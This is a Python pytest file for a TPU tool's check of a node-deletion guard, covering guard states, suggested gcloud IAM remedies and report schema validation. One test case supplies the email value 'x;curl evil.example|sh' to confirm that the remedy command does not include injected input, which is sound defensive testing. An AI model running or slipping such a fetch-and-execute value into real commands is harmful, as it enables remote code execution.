"""The rule about the guard on worker 0: one row for each state of a guard."""

from __future__ import annotations

from dataclasses import replace
from datetime import timedelta

import pytest

from tests.doctor.node.examinations import NOW, problems, seen
from tpuctl.check.facts import Absent, Fact, Known, Unknown
from tpuctl.doctor.worker_rules import check_guard
from tpuctl.ssh.answers import UnexpectedAnswerError, decode_answer
from tpuctl.ssh.tpu_guard import GuardReport, GuardStatus

STATUS = GuardStatus("projects/p/locations/z/nodes/demo", "17", NOW, NOW, "not expired", None, 0, False, None)
RUNNING = GuardReport(None, is_installed=True, is_running=True, status=STATUS, log=("started", "not expired"))
NO_GUARD = GuardReport(None, is_installed=False, is_running=False, status=None, log=())
ACCOUNT = "tpu@p.iam.gserviceaccount.com"
EXPIRES = {"labels": {"tpuctl-expires": "1800000000"}}


def failing(problem: str, text: str, failures: int = 1) -> Fact[GuardReport]:
    return Known(replace(RUNNING, status=replace(STATUS, problem=problem, text=text, failures=failures)))


_GUARDS: dict[str, tuple[Fact[GuardReport], dict[str, dict[str, str]], list[str]]] = {
    "runs": (Known(RUNNING), EXPIRES, []),
    "clock-off": (
        Known(replace(RUNNING, status=replace(STATUS, clock_offset=timedelta(seconds=61)))),
        EXPIRES,
        ["note worker 0: the worker's clock is 1m01s ahead: the guard uses the service's time"],
    ),
    "clock-off-by-a-minute": (
        Known(replace(RUNNING, status=replace(STATUS, clock_offset=timedelta(seconds=-60)))),
        EXPIRES,
        [],
    ),
    "ended": (
        Known(replace(RUNNING, is_running=False, status=replace(STATUS, has_ended=True))),
        EXPIRES,
        ["warning worker 0: the node has a time limit and no guard"],
    ),
    "not-running": (
        Known(replace(RUNNING, is_running=False)),
        EXPIRES,
        ["warning worker 0: the guard does not run: after a reboot only a service of systemd starts again"],
    ),
    "no-look-yet": (
        Known(replace(RUNNING, status=None)),
        EXPIRES,
        ["warning worker 0: the guard has not looked at its node yet"],
    ),
    "permission": (
        failing("permission", "HTTP 403"),
        EXPIRES,
        [
            "warning worker 0: the guard cannot delete the node: the worker's service account is not allowed to (HTTP 403)"
        ],
    ),
    "scope": (
        failing("scope", "HTTP 403"),
        EXPIRES,
        ["warning worker 0: the guard cannot delete the node: the node's scopes lack cloud-platform"],
    ),
    "account": (
        failing("account", "HTTP 404"),
        EXPIRES,
        ["warning worker 0: the guard cannot delete the node: it has no service account"],
    ),
    "api": (failing("api", "HTTP 503", 3), EXPIRES, ["warning worker 0: the guard's request failed 3 times: HTTP 503"]),
    "missing": (Known(NO_GUARD), EXPIRES, ["warning worker 0: the node has a time limit and no guard"]),
    "missing-without-limit": (Known(NO_GUARD), {}, []),
    "absent": (Absent(), EXPIRES, ["warning worker 0: the node has a time limit and no guard"]),
    "unread": (Unknown("it broke"), EXPIRES, ["unknown worker 0: its guard could not be read: it broke"]),
    "unread-without-limit": (Unknown("it broke"), {}, []),
}


@pytest.mark.parametrize(("guard", "fields", "expected"), _GUARDS.values(), ids=_GUARDS.keys())
def test_guard_of_a_node(guard: Fact[GuardReport], fields: dict[str, dict[str, str]], expected: list[str]) -> None:
    assert problems(check_guard, seen({"guard": guard}, **fields)) == expected


@pytest.mark.parametrize(
    ("email", "idle", "account", "role", "permissions"),
    [
        pytest.param(ACCOUNT, None, ACCOUNT, "tpuctlGuard", "tpu.nodes.get,tpu.nodes.delete", id="deletes"),
        pytest.param(
            ACCOUNT,
            (timedelta(hours=1), "stop"),
            ACCOUNT,
            "tpuctlGuardStop",
            "tpu.nodes.get,tpu.nodes.delete,tpu.nodes.stop",
            id="stops-when-idle",
        ),
        pytest.param(
            "x;curl evil.example|sh", None, "SERVICE_ACCOUNT", "tpuctlGuard", "tpu.nodes.get,tpu.nodes.delete", id="odd"
        ),
        pytest.param("", None, "SERVICE_ACCOUNT", "tpuctlGuard", "tpu.nodes.get,tpu.nodes.delete", id="unknown"),
    ],
)
def test_guard_without_permission_names_a_role_that_has_only_that_and_its_log(
    email: str, idle: tuple[timedelta, str] | None, account: str, role: str, permissions: str
) -> None:
    status = replace(STATUS, problem="permission", text="HTTP 403", failures=1)
    after, then = idle or (None, None)
    guard = Known(replace(RUNNING, status=status, idle=after, on_idle=then))
    (found,) = check_guard.judge(seen({"guard": guard}, **EXPIRES, serviceAccount={"email": email}))

    member = f"--member=serviceAccount:{account} --role=projects/p/roles/{role} --condition=None"
    create = f"gcloud iam roles create {role} --project=p --stage=GA --permissions={permissions}"
    assert [remedy.command for remedy in found.remedies] == [
        f"{create} && gcloud projects add-iam-policy-binding p {member}"
    ]
    assert "its log ends with `not expired`" in str(found.why)


@pytest.mark.parametrize(
    "answer",
    [
        pytest.param([], id="list"),
        pytest.param({"mode": "cron", "isInstalled": True, "isRunning": True, "status": None, "log": []}, id="mode"),
        pytest.param({"mode": None, "isInstalled": 1, "isRunning": True, "status": None, "log": []}, id="number"),
        pytest.param({"mode": None, "isInstalled": True, "isRunning": True, "status": {}, "log": []}, id="status"),
        pytest.param(
            {"mode": None, "isInstalled": True, "isRunning": True, "status": None, "log": ["x"] * 41}, id="log"
        ),
    ],
)
def test_report_that_breaks_the_schema_is_an_error(answer: object) -> None:
    with pytest.raises(UnexpectedAnswerError):
        decode_answer(GuardReport, answer)
